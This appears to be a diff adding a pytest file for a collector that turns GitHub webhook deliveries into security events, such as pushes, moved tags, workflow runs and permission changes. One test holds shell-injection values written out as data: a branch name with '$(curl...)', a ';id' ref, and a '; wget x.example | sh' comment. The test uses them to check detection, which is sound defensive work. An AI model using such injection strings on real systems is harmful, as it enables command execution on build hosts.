@@ -1,0 +1,213 @@
+"""GitHub's webhooks become events, each delivery one."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from collector.event import ActorType, Kind
+from tests.collector.samples import AT, JSON, commit, parse, payload, push, repository, webhook
+
+
+def test_ids_and_time() -> None:
+    """The delivery's GUID is id and ref; without a time of its own, an event counts when it was received."""
+    event = webhook("push", push())
+    assert (event.id, event.ref, event.observed_at) == ("github.webhook:guid-of-push", "guid-of-push", AT + 5)
+
+
+def test_a_push_is_one_event() -> None:
+    """A push is one event whatever number of commits it has; what they touch are its facts."""
+    event = webhook("push", push(commit(modified=["a.py", ".github/workflows/ci.yml"]), commit(added=["Makefile"])))
+    assert (event.kind, event.action, event.numbers["commits"], event.utc_offset) == (Kind.CHANGE, "push", 2.0, 780)
+    assert event.facts["zone"] == ["build", "source", "ci"]
+    assert event.facts["new_path_zone"] == ["build"]
+    assert (event.facts["branch_class"], event.facts["forced"], event.facts["ref_kind"]) == ("default", "no", "branch")
+
+
+@pytest.mark.parametrize(
+    ("item", "match"),
+    [
+        (commit(), ["author pushed"]),
+        (commit(by="eve"), ["another's commit"]),
+        (commit(by="dependabot[bot]"), ["bot-like author, pushed by a user"]),
+        (
+            commit(author={"name": "Ghost", "email": "g@elsewhere.example"}),
+            ["author without an account", "author and committer differ"],
+        ),
+    ],
+)
+def test_who_wrote_what_was_pushed(item: JSON, match: list[str]) -> None:
+    """A push tells whether its author pushed it, another did, or somebody posed as a bot."""
+    assert webhook("push", push(item)).facts["author_match"] == match
+
+
+def test_a_moved_tag() -> None:
+    """A tag that existed before is told from a new one."""
+    moved = webhook("push", push(ref="refs/tags/v1"))
+    new = webhook("push", push(ref="refs/tags/v1", before="0" * 40))
+    assert (moved.facts["ref_kind"], new.facts["ref_kind"], moved.facts["branch_class"]) == ("tag moved", "tag", "tag")
+
+
+@pytest.mark.parametrize(
+    ("name", "body"),
+    [
+        ("push", push(ref="refs/heads/a$(curl${IFS}x.example)")),
+        ("create", payload(ref="a;id", ref_type="branch")),
+        ("pull_request", payload(action="opened", number=1, pull_request={"title": "`id`", "head": {}})),
+        ("issue_comment", payload(action="created", issue={"title": "x"}, comment={"body": "; wget x.example | sh"})),
+    ],
+)
+def test_text_written_to_hurt(name: str, body: JSON) -> None:
+    """Branch names, titles and comments that would run in a shell are told."""
+    assert webhook(name, body).facts["text_oddity"] == ["shell metacharacters"]
+
+
+def _run(**fields: object) -> JSON:
+    run = {
+        "id": 4711,
+        "name": "CI",
+        "path": ".github/workflows/ci.yml",
+        "event": "pull_request_target",
+        "head_branch": "patch",
+        "head_sha": "c" * 40,
+        "conclusion": "success",
+        "run_started_at": "2026-03-01T10:00:00Z",
+        "updated_at": "2026-03-01T10:02:00Z",
+        "head_repository": {"full_name": "eve/pay"},
+        "run_attempt": 2,
+    }
+    return payload(action="completed", workflow_run={**run, **fields})
+
+
+def test_a_run() -> None:
+    """A run tells its workflow's file, its trigger, whose code it ran, how it ended and how long it took."""
+    event = webhook("workflow_run", _run())
+    assert (event.action, str(event.entity)) == ("workflow_run.completed", "workflow:acme/pay:.github/workflows/ci.yml")
+    assert (event.facts["trigger"], event.facts["head_fork"], event.facts["conclusion"]) == (
+        "pull_request_target",
+        "yes",
+        "success",
+    )
+    assert (event.numbers["duration_s"], event.observed_at, event.links["run"]) == (120.0, AT + 120, "4711")
+
+
+def test_a_job() -> None:
+    """A job tells its runner, its steps, how long it waited and how long it ran."""
+    job = {
+        "run_id": 4711,
+        "name": "build",
+        "workflow_name": "CI",
+        "labels": ["self-hosted", "gpu"],
+        "runner_name": "forge-1",
+        "runner_group_name": "Default",
+        "created_at": "2026-03-01T10:00:00Z",
+        "started_at": "2026-03-01T10:00:30Z",
+        "completed_at": "2026-03-01T10:01:30Z",
+        "steps": [{"name": "Checkout"}, {"name": "Test"}],
+    }
+    event = webhook("workflow_job", payload(action="completed", workflow_job=job))
+    assert str(event.entity) == "job:acme/pay:CI/build"
+    assert (event.facts["step"], event.facts["runner_label"]) == (["Checkout", "Test"], ["self-hosted", "gpu"])
+    assert (event.facts["hosted"], event.links["runner"]) == ("no", "forge-1")
+    assert (event.numbers["queue_s"], event.numbers["duration_s"]) == (30.0, 60.0)
+
+
+def test_a_pull_request() -> None:
+    """A pull request tells from where it comes, how large it is and whether its author acts."""
+    pull = {
+        "number": 12,
+        "title": "Add 3 taxes",
+        "user": {"login": "eve"},
+        "author_association": "FIRST_TIME_CONTRIBUTOR",
+        "head": {"ref": "patch", "sha": "c" * 40, "repo": {"full_name": "eve/pay"}},
+        "merged": True,
+        "changed_files": 3,
+        "closed_at": "2026-03-01T10:00:03Z",
+    }
+    event = webhook("pull_request", payload(action="closed", pull_request=pull))
+    assert (event.links["pull_request"], event.links["actor_login"]) == ("acme/pay#12", "eve")
+    assert (event.facts["head_fork"], event.facts["merged"], event.facts["title_shape"]) == (
+        "yes",
+        "yes",
+        "add # taxes",
+    )
+    assert (event.facts["author_match"], event.numbers["changed_files"], event.observed_at) == (
+        "another's",
+        3.0,
+        AT + 3,
+    )
+
+
+@pytest.mark.parametrize(
+    ("name", "body", "facts"),
+    [
+        ("deploy_key", {"action": "created", "key": {"id": 1, "read_only": False, "title": "ci"}}, {"read_only": "no"}),
+        (
+            "branch_protection_rule",
+            {
+                "action": "edited",
+                "rule": {"name": "main", "admin_enforced": False},
+                "changes": {"admin_enforced": {"from": True}},
+            },
+            {"rule": ["admin_enforced=false"], "changed": ["admin_enforced"]},
+        ),
+        (
+            "member",
+            {"action": "added", "member": {"login": "eve"}, "changes": {"permission": {"to": "admin"}}},
+            {"permission": "admin"},
+        ),
+        (
+            "repository",
+            {"action": "publicized", "repository": repository(visibility="public")},
+            {"previous_visibility": "private"},
+        ),
+        (
+            "release",
+            {"action": "published", "release": {"tag_name": "v1.20.3", "assets": [{"name": "pay-1.2.tgz", "size": 9}]}},
+            {"version_shape": "vN.NN.N", "asset": ["pay-#.tgz"]},
+        ),
+        (
+            "registry_package",
+            {"action": "published", "registry_package": {"name": "pay", "package_version": {"version": "9.9.9"}}},
+            {"version_shape": "N.N.N"},
+        ),
+        (
+            "meta",
+            {"action": "deleted", "hook": {"events": ["push"], "config": {"url": "https://in.example"}}},
+            {"x.events": ["push"]},
+        ),
+        ("something_new", {"action": "begun", "thing": {"state": "open", "id": 4}}, {"x.thing.state": "open"}),
+    ],
+)
+def test_other_payloads(name: str, body: JSON, facts: JSON) -> None:
+    """Each kind of payload tells its own facts; a kind nobody knows is a plain event."""
+    event = webhook(name, payload(**body))
+    assert event.action == f"{name}.{body['action']}"
+    assert facts.items() <= event.facts.items()
+
+
+@pytest.mark.parametrize(
+    ("sender", "kind"),
+    [
+        ({"login": "mona", "type": "User"}, ActorType.USER),
+        ({"login": "ci[bot]", "type": "Bot"}, ActorType.BOT),
+        ({}, ActorType.UNKNOWN),
+    ],
+)
+def test_senders(sender: JSON, kind: ActorType) -> None:
+    """The sender is the actor; people and bots are told apart."""
+    assert webhook("watch", payload(action="started", sender=sender)).actor.type is kind
+
+
+def test_form_encoded_deliveries() -> None:
+    """A delivery sent as a form field is the delivery."""
+    headers = {"X-GitHub-Event": "push", "X-GitHub-Delivery": "guid-of-push"}
+    assert parse("github.webhook", {"payload": json.dumps(push())}, headers) == webhook("push", push())
+
+
+def test_without_headers() -> None:
+    """A payload whose headers were lost is recognised by what it holds, with an id from its content."""
+    event = parse("github.webhook", _run())
+    assert event.action == "workflow_run.completed"
+    assert event.id == parse("github.webhook", dict(reversed(_run().items()))).id
